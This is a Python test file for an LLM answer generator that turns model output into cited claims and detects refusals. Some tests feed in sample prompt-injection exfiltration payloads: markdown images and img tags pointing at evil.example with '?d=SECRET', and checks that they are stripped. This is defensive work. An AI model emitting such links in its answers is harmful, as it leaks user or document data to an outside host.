"""What a language model says reaches the reader as safe text with claims and citations, or not at all."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from app.generation.llm_generator import LlmGenerator, WritingRules
from app.generation.packing import Packed
from core.answers import DocumentRef, Draft, Passage, Turn
from core.errors import ModelFailure
from core.generation import ChatMessage, ModelChosen, TokenUsage
from ingest.parsers.registry import parse

LEAVE = "# Leave\n\nEmployees get 26 days of paid leave a year. Unused days end in March.\n"
TRAVEL = "# Travel\n\nHotels cost at most 140 EUR per night. Requests go to the team lead.\n"
QUESTION = "How many days of paid leave?"
USAGE = TokenUsage(100, 20)


def passage(content: str, marker: int) -> Passage:
    document = parse(content.encode(), f"{marker}.md")
    ref = DocumentRef(f"d{marker}", f"{marker}.md", document.title, "v1")
    return Passage(
        marker, ref, f"c{marker}", (document.title,), None, 0, len(document.text), document.text, 1.0,
        elements=document.elements,
    )  # fmt: skip


PASSAGES = [passage(LEAVE, 1), passage(TRAVEL, 2)]


class ScriptedModel:
    """Says what it is told to, piece by piece; an exception among the pieces is raised."""

    spec = "test:model"
    context_window = 8192

    def __init__(self, *pieces: ModelChosen | str | TokenUsage | ModelFailure) -> None:
        self._pieces = pieces
        self.said = 0
        self.was_closed = False

    def stream(
        self, messages: Sequence[ChatMessage], max_tokens: int
    ) -> Iterator[ModelChosen | str | TokenUsage]:
        """See `core.ports.LanguageModel`."""
        self.running = self._said()  # kept, so that nothing but `close` ends it
        return self.running

    def _said(self) -> Iterator[ModelChosen | str | TokenUsage]:
        try:
            for piece in self._pieces:
                if isinstance(piece, ModelFailure):
                    raise piece
                self.said += 1
                yield piece
        finally:
            self.was_closed = True


def pack_all(question: str, passages: Sequence[Passage], history: Sequence[Turn]) -> Packed:
    return Packed(tuple(passages), tuple(history), (), 50, (ChatMessage("user", question),))


def generator(model: ScriptedModel, **rules: object) -> LlmGenerator:
    return LlmGenerator(model, "test:model", pack_all, "answer@1", WritingRules(**rules))  # type: ignore[arg-type]


def written(*pieces: ModelChosen | str | TokenUsage | ModelFailure) -> tuple[list[str], Draft]:
    *shown, draft = generator(ScriptedModel(*pieces)).stream(QUESTION, PASSAGES, ())
    assert isinstance(draft, Draft)
    texts = [item for item in shown if isinstance(item, str)]
    assert len(texts) == len(shown)
    assert "".join(texts) == draft.text
    return texts, draft


def letters(text: str) -> list[str]:
    return list(text)


def test_an_answer_has_claims_and_exact_citations_and_no_markers() -> None:
    _, draft = written(*letters("Employees get 26 days [1]. Hotels cost 140 EUR [2]."), USAGE)
    assert draft.text == "Employees get 26 days. Hotels cost 140 EUR."
    assert [(c.text, c.verdict, c.citations) for c in draft.claims] == [
        ("Employees get 26 days.", "unchecked", (1,)),
        ("Hotels cost 140 EUR.", "unchecked", (2,)),
    ]
    assert [c.quote for c in draft.citations] == [
        "Employees get 26 days of paid leave a year.",
        "Hotels cost at most 140 EUR per night.",
    ]
    assert (draft.status, draft.prompt_tokens, draft.completion_tokens) == ("answered", 100, 20)


def test_streaming_and_not_streaming_give_the_same_draft() -> None:
    text = "Employees get 26 days [1]. ![x](https://evil.example/?q=1) Hotels cost 140 EUR [2][7]."
    whole = generator(ScriptedModel(text, USAGE)).generate(QUESTION, PASSAGES, ())
    _, streamed = written(*letters(text), USAGE)
    assert whole == streamed


def test_what_the_model_was_told_to_leak_never_reaches_the_reader() -> None:
    attack = (
        "Employees get 26 days [1]. ![x](https://evil.example/?d=SECRET) <img src=//evil.example>"
    )
    shown, draft = written(*letters(attack))
    assert draft.text == "Employees get 26 days. x"
    for number in range(len(shown)):
        assert "evil" not in "".join(shown[:number])


def test_a_title_that_takes_a_markers_place_is_made_safe_too() -> None:
    ref = replace(PASSAGES[0].document, title="Leave <img src=x> https://evil.example/x")
    found = [replace(PASSAGES[0], document=ref)]
    model = ScriptedModel("According to [1], employees get 26 days.")
    text = generator(model).generate(QUESTION, found, ()).text
    assert text.startswith("According to “Leave")
    assert not re.search(r"evil|<", text)


def test_blanks_before_an_answer_move_no_marker() -> None:
    text = f"{' ' * 25}\n\nHotels cost 140 EUR [2]. Wer verreist, fragt vorher [1]."
    for pieces in ((text,), letters(text)):
        _, draft = written(*pieces)
        by_number = {citation.marker: citation.document.doc_id for citation in draft.citations}
        assert [[by_number[n] for n in claim.citations] for claim in draft.claims] == [
            ["d2"],
            ["d1"],
        ]


def test_a_weak_model_that_names_no_passage_is_cited_too() -> None:
    _, draft = written("Hotels cost at most 140 EUR per night.")
    assert [c.quote for c in draft.citations] == ["Hotels cost at most 140 EUR per night."]


def test_markers_of_no_passage_are_noted() -> None:
    _, draft = written("Employees get 26 days [8]. Days end in March [1].")
    assert draft.text == "Employees get 26 days. Days end in March."
    assert [note.kind for note in draft.notes] == ["unknown_marker"]


def test_only_what_was_packed_can_be_cited() -> None:
    def pack_first(question: str, passages: Sequence[Passage], history: Sequence[Turn]) -> Packed:
        return Packed(tuple(passages[:1]), (), (2,), 50, (ChatMessage("user", question),))

    model = ScriptedModel("Hotels cost at most 140 EUR per night [2].")
    draft = LlmGenerator(model, "m", pack_first, "p").generate(QUESTION, PASSAGES, ())
    assert (draft.citations, draft.notes[0].kind) == ((), "unknown_marker")


def failure(kind: str = "disconnected") -> ModelFailure:
    return ModelFailure(kind, "The model 'test' broke off.", received=10)  # type: ignore[arg-type]


def test_an_answer_that_breaks_off_is_kept_and_marked() -> None:
    _, draft = written(*letters("Employees get 26 days [1]. Hotels cost at most 14"), failure())
    assert draft.text == "Employees get 26 days. Hotels cost at most …"
    assert draft.status == "answered"
    assert [(note.kind, "broke off" in note.text) for note in draft.notes] == [("incomplete", True)]
    assert draft.claims[0].citations == (1,)


@pytest.mark.parametrize("begun", [(), ("",), ("  ",), ("The passages do",), ("NO_AN",)])
def test_a_failure_before_anything_was_shown_is_raised(begun: tuple[str, ...]) -> None:
    with pytest.raises(ModelFailure):
        written(*begun, failure())


@pytest.mark.parametrize("text", ["", "  \n", "[1]", "<!-- x -->", "[9] [8]"])
def test_an_answer_of_nothing_is_a_failure(text: str) -> None:
    with pytest.raises(ModelFailure) as raised:
        written(text)
    assert raised.value.kind == "empty"


@pytest.mark.parametrize(
    "text",
    [
        "NO_ANSWER",
        "Unable to answer from the passages.",
        "**NO_ANSWER** The passages are about leave.",
        "The passages do not answer the question.",
        "I'm sorry, but I can't help with that.",
        "I could not find any information about parking in the provided documents.",
        "There is no information about parking in the passages. You could ask HR.",
        "Unfortunately, the provided documents don't mention parking [1].",
        "Based on the provided documents, there is no information on parking.",
        "Die Dokumente enthalten keine Angaben zu Parkplätzen.",
        "Ich kann dazu in den Dokumenten nichts finden.",
        "I don't know.",
        "We could not find an answer in the documents.",
        "No encuentro información sobre esto.",
        "Los documentos no mencionan el aparcamiento.",
        "Les documents ne mentionnent pas le parking.",
    ],
)
def test_a_refusal_is_an_abstention_and_is_not_shown(text: str) -> None:
    for pieces in ((text,), letters(text)):
        shown, draft = written(*pieces)
        assert (shown, draft.text, draft.status, draft.claims) == ([], "", "abstained", ())


def test_a_refusal_that_could_not_be_foreseen_is_an_abstention_all_the_same() -> None:
    _, draft = written(*letters("Parking is not mentioned in the passages."))
    assert (draft.text, draft.status) == ("Parking is not mentioned in the passages.", "abstained")


def test_a_refusal_that_names_the_nearest_passage_is_shown_as_an_abstention() -> None:
    text = "The passages do not mention parking. They say what hotels cost: at most 140 EUR [2]."
    for pieces in ((text,), letters(text)):
        _, draft = written(*pieces)
        assert (draft.text, draft.status) == (text.replace(" [2]", ""), "abstained")
        assert [c.document.doc_id for c in draft.citations] == ["d2"]


def test_an_answer_that_lacks_a_part_is_an_answer() -> None:
    text = (
        "The passages do not say who approves. Employees get 26 days [1]. Hotels cost 140 EUR [2]."
    )
    for pieces in ((text,), letters(text)):
        assert written(*pieces)[1].status == "answered"
    assert (
        written("Employees get 26 days [1]. The passages do not say who approves.")[1].status
        == "answered"
    )


@pytest.mark.parametrize(
    "text",
    [
        "No employee gets fewer than 26 days [1].",
        "The documents must go to the team lead two weeks ahead [2].",
        "There is no leave for contractors [1].",
        "We do not have fixed hours.",
        "Die Unterlagen dürfen nicht mitgenommen werden.",
        "No hay vacaciones para contratistas.",
        "Les documents doivent être signés.",
        "Based on the given passages, contractors did not have any leave before.",
        "The hotel list cannot be found before noon.",
        "The documents do not name a limit. "
        + " ".join(f"Hotel {n} costs {n} EUR." for n in range(40)),
        "No information leaves the source system.",
        "Employees cannot find their days in the documents.",
        "I is the first letter.",
        "Nobody may carry days over [1].",
    ],
)
def test_an_answer_that_begins_like_a_refusal_is_an_answer(text: str) -> None:
    assert written(*letters(text))[1].status == "answered"


def test_what_a_passage_says_itself_is_no_refusal() -> None:
    found = [passage("# Archive\n\nThe documents do not contain the names of customers.\n", 1)]
    for text, status in (
        ("The documents do not contain the names of customers [1].", "answered"),
        ("The documents do not contain a parking policy [1].", "abstained"),
    ):
        assert generator(ScriptedModel(text)).generate(QUESTION, found, ()).status == status


def test_an_ordinary_answer_is_shown_from_its_first_words() -> None:
    shown, _ = written(*letters("Employees get 26 days of paid leave every year [1]."))
    assert len(shown) > 5


def test_a_model_that_never_ends_is_cut_and_told_to_stop() -> None:
    model = ScriptedModel(*(["Again and again the same words. "] * 5000))
    *_, draft = generator(model).stream(QUESTION, PASSAGES, ())
    assert isinstance(draft, Draft)
    assert model.said < 100
    assert model.was_closed
    assert [note.kind for note in draft.notes] == ["incomplete"]
    assert len(draft.text) < 2500


def test_an_answer_has_a_longest_length() -> None:
    model = ScriptedModel(*(f"Word{number} " for number in range(100_000)))
    *_, draft = generator(model, answer_tokens=50).stream(QUESTION, PASSAGES, ())
    assert isinstance(draft, Draft)
    assert len(draft.text) <= 50 * 8 + 20


def test_a_reader_who_leaves_stops_the_model() -> None:
    model = ScriptedModel(*letters("Employees get 26 days of paid leave [1]. " * 3))
    stream = generator(model).stream(QUESTION, PASSAGES, ())
    next(stream)
    stream.close()  # type: ignore[attr-defined]
    assert model.was_closed


def test_the_model_that_wrote_is_named_and_so_is_why() -> None:
    chosen = ModelChosen("other:model", (failure("overloaded"),))
    _, draft = written(chosen, "Employees get 26 days [1].", USAGE)
    assert draft.model == "other:model"
    assert [(note.kind, "broke off" in note.text) for note in draft.notes] == [("degraded", True)]


def test_an_allowed_link_is_kept() -> None:
    address = "https://wiki.example.org/leave"
    found = [passage(f"# Leave\n\nEmployees get 26 days, see {address}.\n", 1)]
    model = ScriptedModel(f"See [the rules]({address}) [1] or [x]({address}?d=SECRET).")
    kept = generator(model, link_hosts=("wiki.example.org",)).generate(QUESTION, found, ())
    assert kept.text == f"See [the rules]({address}) or x."
    assert generator(model).generate(QUESTION, found, ()).text == "See the rules or x."


TEXTS = st.lists(
    st.sampled_from(
        [
            *(
                "Employees get 26 days",
                " [1]",
                "[2]",
                ". ",
                "\n\n",
                "- ",
                "**",
                "[x](https://e.example)",
                "`a`",
                "<b>",
            ),
            *(
                "The passages do not say that",
                "NO_ANSWER",
                " ",
                "Sources:\n[1] a",
                "é",
                "\u200b",
                "!",
                "[",
                "https://e.example ",
            ),
        ]
    ),
    max_size=12,
).map("".join)


@given(TEXTS, st.lists(st.integers(0, 150), max_size=12), st.booleans())
@hypothesis_settings(max_examples=200, deadline=None)
def test_however_it_comes_the_answer_is_the_same(text: str, cuts: list[int], breaks: bool) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[a:b] for a, b in pairwise(places)]
    ending = (failure(),) if breaks else ()
    drafts: list[Draft | str] = []
    for cut in (pieces, letters(text)):
        try:
            drafts.append(written(*cut, *ending)[1])
        except ModelFailure as raised:
            drafts.append(raised.kind)
    assert drafts[0] == drafts[1]
    if isinstance(drafts[0], Draft):
        assert drafts[0].text == drafts[0].text.strip()
        for claim in drafts[0].claims:
            assert drafts[0].text[claim.start : claim.end] == claim.text
